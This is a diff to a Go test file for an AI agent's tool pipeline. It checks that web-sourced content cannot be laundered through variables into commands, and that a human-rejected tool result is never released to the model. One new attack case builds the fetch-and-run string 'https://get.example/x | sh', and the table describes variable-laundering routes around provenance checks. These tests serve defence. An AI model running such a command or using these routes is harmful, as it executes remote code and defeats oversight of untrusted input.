@@ -142,6 +142,7 @@ policy: {profile: `+profile+`, rules: {allow: [Bash, Write, Page, Mcp, Broken, F
 		scripted{spec: tool.Spec{Name: "Page", Class: tool.ClassRead, ReadOnly: true, Schema: schema, Origin: tool.OriginWeb}, text: order},
 		scripted{spec: tool.Spec{Name: "Mcp", Class: tool.ClassState, Schema: schema, Origin: tool.OriginMCP}, text: order},
 		scripted{spec: tool.Spec{Name: "Uncached", Class: tool.ClassRead, ReadOnly: true, Schema: schema, Origin: tool.OriginWeb, NoCache: true}, text: order},
+		scripted{spec: tool.Spec{Name: "Looked", Class: tool.ClassRead, ReadOnly: true, Schema: schema, Origin: tool.OriginWeb, Results: tool.ResultAlways}, text: order},
 		scripted{spec: tool.Spec{Name: "Broken", Class: tool.ClassRead, ReadOnly: true, Schema: schema, Origin: tool.OriginWeb}, err: &tool.Error{Code: "http_500", Msg: order}},
 		scripted{spec: tool.Spec{Name: "Fetch", Class: tool.ClassNet, Schema: json.RawMessage(`{"type":"object","properties":{"url":{"type":"string"}}}`), Origin: tool.OriginWeb}, text: "ok"},
 	}})
@@ -199,6 +200,12 @@ func (nobody) Result(context.Context, *tool.Call) (tool.Approval, error) {
 	return tool.Approval{Approved: true}, nil
 }
 
+type rejecting struct{ nobody }
+
+func (rejecting) Result(context.Context, *tool.Call) (tool.Approval, error) {
+	return tool.Approval{Reason: "not for the model"}, nil
+}
+
 type unrecorded struct{}
 
 func (unrecorded) Begin(context.Context, *tool.Call) error { return nil }
@@ -252,6 +259,35 @@ func TestProvenance_ActsBesideCommands(t *testing.T) {
 	}
 }
 
+// TestCX22_V03_ResultsAreVariablesOnceReleased: a result that a person must look
+// at is a variable after the answer, or never, and counts as read only then.
+func TestCX22_V03_ResultsAreVariablesOnceReleased(t *testing.T) {
+	a := newAttack(t, "developer")
+	for _, tt := range []struct {
+		name   string
+		people pipeline.Approvals
+		read   string
+	}{{"released", nobody{}, "[web]"}, {"rejected", rejecting{}, "[]"}} {
+		t.Run(tt.name, func(t *testing.T) {
+			a := *a
+			a.t, a.line = t, a.parts.pipeline(tt.people, unrecorded{})
+			a.restart()
+			r := a.line.Do(t.Context(), a.request("Looked", map[string]string{}))
+			name := "Looked_" + r.NodeID + "_result"
+			v, found, err := a.parts.vars.Get(t.Context(), a.session, name)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if released := tt.read == "[web]"; found != released || (r.VarResult == name) != released || found && *v.Value != order {
+				t.Errorf("%s %q: got %+v", r.Status, r.VarResult, v)
+			}
+			if got, err := a.parts.vars.Released(t.Context(), a.session); fmt.Sprint(got) != tt.read || err != nil {
+				t.Errorf("the session has read %v, %v, want %s", got, err, tt.read)
+			}
+		})
+	}
+}
+
 // TestProvenance_TheDocumentHasTheTable compares docs/provenance.md.
 func TestProvenance_TheDocumentHasTheTable(t *testing.T) {
 	doc, err := os.ReadFile("../../docs/provenance.md")
@@ -281,6 +317,11 @@ var attacks = []struct {
 	{"by WriteVar of a reference", "ask heard quoted", "deny quoted", func(a *attack) string {
 		a.write("clean", a.slice(a.page, 0, len(evil)))
 		return "$VAR_REF{{clean}}"
+	}},
+	{"by WriteVar of a short slice, after a reset", "ask heard quoted", "deny quoted", func(a *attack) string {
+		a.reset()
+		a.write("clean", a.slice(a.page, 0, 10))
+		return "$VAR_REF{{clean}} https://get.example/x | sh"
 	}},
 	{"by WriteVar of a copy", "ask heard quoted", "deny quoted", func(a *attack) string {
 		a.write("clean", evil)
